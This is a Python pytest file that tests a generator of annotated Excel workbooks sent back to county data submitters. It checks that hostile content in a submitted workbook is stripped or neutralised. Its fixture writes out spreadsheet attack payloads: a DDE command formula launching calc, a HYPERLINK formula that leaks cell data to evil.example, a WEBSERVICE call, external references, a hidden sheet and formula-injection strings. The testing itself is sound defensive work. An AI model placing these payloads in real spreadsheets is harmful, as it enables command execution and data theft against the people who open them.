"""The returned workbook against a county's file that holds everything a workbook can do to its reader."""

import datetime as dt
import html
import io
import re
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from catalog.returned import EXPLAIN_FILL, EXPLANATION_SHEET, LIST_SHEET, MUST_FIX_FILL, ExplanationKey
from serving.feedback import Asked, Item, Sheet, draw_workbook
from serving.feedback.cells import _dress

KEY = ExplanationKey("ExpectTotalsToMatchParts", "voters_received", "522301", "2026-06", "表!B4", "0123456789abcdef")


def _asked(*items):
    return Asked("0123456789abcdef", "县/表.xlsx", "county_table", None, "522301", "兴义市", "2026-06", items)


def _bytes(book):
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def _whole(data):
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return {name: html.unescape(book.read(name).decode()) for name in book.namelist()}


@pytest.fixture(scope="module")
def hostile():
    book = Workbook()
    sheet = book.active
    sheet.title = "表"
    texts = {
        "A1": "=cmd|' /C calc'!A0",
        "B1": '=HYPERLINK("http://evil.example/?"&A2,"点我")',
        "A2": "='[外部.xlsx]表'!A1",
        "B2": '=WEBSERVICE("http://evil.example")',
        "A3": "=SUM(A4:A5)",
        "B3": "=SUM(隐藏!A1:A2)",
        "A4": 3,
        "A5": 4,
        "B4": dt.date(2026, 7, 3),
    }
    for place, value in texts.items():
        sheet[place] = value
    sheet["B5"].value = "@SUM(1+1)"
    sheet["C5"].value = "文字"
    sheet["C5"].hyperlink = "http://evil.example/"
    sheet["C5"].comment = Comment("测试丙: 看这里", "测试丙")
    sheet["A4"].font, sheet["A4"].fill = Font(bold=True), PatternFill("solid", fgColor=MUST_FIX_FILL)
    sheet.column_dimensions["A"].width = 33
    sheet.add_data_validation(DataValidation(type="list", formula1='"a,b"', sqref="A1"))
    hidden = book.create_sheet("隐藏")
    hidden["A1"] = "测试丁"
    hidden.sheet_state = "hidden"
    book.defined_names["evil"] = DefinedName("evil", attr_text="'[外部.xlsx]表'!$A$1")
    book.properties.creator = book.properties.lastModifiedBy = "测试戊"
    rows = [
        ["=cmd|' /C calc'!A0", "点我", "-——"],
        ["外部的字", "+1+1", None],
        [7, 9, None],
        [3, dt.datetime(2026, 7, 3), None],
        [4, "@SUM(1+1)", "文字"],
    ]
    items = (
        Item(1, "表!A4", "=1+1 <b>有问题</b>", "@应当", True, None),
        Item(2, "表!A4", "也请核实", "", False, KEY),
        Item(3, "表!B5", "第二处", "", False, KEY),
        Item(4, None, "整张表", "", True, None),
    )
    return draw_workbook(_asked(*items), [Sheet("表", "表", rows)], _bytes(book))


def test_nothing_of_the_county_but_cells_looks_and_plain_formulas_goes_back(hostile):
    members = _whole(hostile)
    assert not [name for name in members if re.search("external|vba|media|embed|drawing\\d+\\.xml|custom", name)]
    for name, content in members.items():
        assert "evil" not in content, name
        assert not re.search("测试[丙丁戊]|外部\\.xlsx|definedName |隐藏", content), name
        assert 'TargetMode="External"' not in content
    assert re.findall("<f>([^<]*)</f>", "".join(members.values())) == ["SUM(A4:A5)"]
    assert "creator" not in members["docProps/core.xml"]


def test_values_and_looks_stay_and_our_old_marks_do_not(hostile):
    values = load_workbook(io.BytesIO(hostile), data_only=True)["表"]
    assert [values["A3"].value, values["B3"].value, values["B4"].value] == [7, 9, dt.datetime(2026, 7, 3)]
    assert [values["A1"].value, values["B5"].value, values["B2"].value] == [
        "'=cmd|' /C calc'!A0",
        "'@SUM(1+1)",
        "'+1+1",
    ]
    assert values["C1"].value == "-——"
    assert values["A4"].font.bold
    assert values.column_dimensions["A"].width == 33
    again = load_workbook(io.BytesIO(hostile))
    stream = io.BytesIO()
    again.save(stream)
    unmarked = draw_workbook(
        _asked(Item(1, None, "整张表", "", True, None)),
        [Sheet("表", "表", [[1], [2], [7], [3], [4]])],
        stream.getvalue(),
    )
    assert load_workbook(io.BytesIO(unmarked))["表"]["A4"].fill.fgColor.rgb not in (MUST_FIX_FILL, EXPLAIN_FILL)


def test_what_must_be_fixed_shows_over_what_is_to_be_explained(hostile):
    book = load_workbook(io.BytesIO(hostile))
    sheet = book["表"]
    assert sheet["A4"].fill.fgColor.rgb == MUST_FIX_FILL
    assert sheet["B5"].fill.fgColor.rgb == EXPLAIN_FILL
    assert "【必须改正】" in sheet["A4"].comment.text
    assert "【请核实】也请核实" in sheet["A4"].comment.text
    assert sheet["A4"].comment.author == "数据仓库"
    assert [cell.value for cell in book[LIST_SHEET]["D"]][-4:] == [
        "'=1+1 <b>有问题</b>",
        "也请核实",
        "第二处",
        "整张表",
    ]
    assert [cell.value for cell in book[LIST_SHEET]["F"]][-4:] == ["必须改正", "请核实", "请核实", "必须改正"]
    assert [cell.value for cell in book[LIST_SHEET]["C"]][-1] == "整张表"
    answers = book[EXPLANATION_SHEET]
    assert [cell.value for cell in answers["A"]][-2:] == [2, 3]
    assert ExplanationKey.read(answers.cell(answers.max_row, 6).value) == KEY
    assert answers.column_dimensions["F"].hidden


def test_without_anything_to_explain_there_is_no_sheet_for_it():
    book = load_workbook(
        io.BytesIO(draw_workbook(_asked(Item(1, "表!A1", "错", "", True, None)), [Sheet("表", "表", [[1]])], None))
    )
    assert book.sheetnames == [LIST_SHEET, "表"]


def test_a_text_file_becomes_a_workbook_with_its_paragraphs_and_numbers():
    sheet = Sheet(
        "", "", [["单位", "数"], ["甲镇", "12"], ["乙镇", "2026.6"]], lines=[3, 4, 6], before=["标题"], after=["注"]
    )
    data = draw_workbook(_asked(Item(1, "line 6 col 2", "错", "", True, None)), [sheet], None)
    drawn = load_workbook(io.BytesIO(data))["统计表"]
    column = [cell.value for cell in drawn["B"]]
    assert column[:5] == [None, None, "数", 12, "2026.6"]
    assert [drawn["A1"].value, drawn["A7"].value] == ["标题", "注"]
    assert drawn["B5"].comment


def test_a_merged_cell_is_marked_at_its_head_and_loses_nothing():
    sheet = Sheet("表", "表", [["甲", "甲", 5], ["甲", "甲", 6]], merged=[(0, 0, 1, 1), (0, 2, 1, 2)])
    drawn = load_workbook(io.BytesIO(draw_workbook(_asked(Item(1, "表!B2", "错", "", True, None)), [sheet], None)))[
        "表"
    ]
    assert drawn["A1"].comment
    assert [str(merged) for merged in drawn.merged_cells.ranges] == ["A1:B2"]
    assert [drawn["C1"].value, drawn["C2"].value] == [5, 6]


@pytest.mark.parametrize("name", ["说明", "问题清单", "a[1]:*?/\\", "很" * 40, "=1+1"])
def test_any_name_of_a_sheet_becomes_a_title_of_its_own(name):
    sheets = [Sheet(name, name, [[1]]), Sheet("乙", name, [[2]])]
    book = load_workbook(io.BytesIO(draw_workbook(_asked(Item(1, None, "错", "", False, KEY)), sheets, None)))
    assert len(book.sheetnames) == 4
    assert book.sheetnames[:2] == [LIST_SHEET, EXPLANATION_SHEET]
    assert all(len(title) <= 31 for title in book.sheetnames)


def test_a_workbook_that_does_not_open_goes_back_without_its_looks():
    data = draw_workbook(
        _asked(Item(1, "表!A1", "错", "", True, None)), [Sheet("表", "表", [[1]])], b"PK\x03\x04 broken"
    )
    assert load_workbook(io.BytesIO(data))["表"]["A1"].value == 1


@pytest.mark.parametrize(
    ("held", "kept"), [('0"测试甲19900001234"', "General"), ("0.0%", "0.0%"), ('yyyy"年"m"月"', 'yyyy"年"m"月"')]
)
def test_no_words_come_back_in_a_format_or_a_fonts_name(held, kept):
    book = Workbook()
    original, target = book.active["A1"], book.active["B1"]
    original.number_format, original.font = held, Font(name="测试甲")
    _dress(target, original)
    assert (target.number_format, target.font.name) == (kept, "宋体")
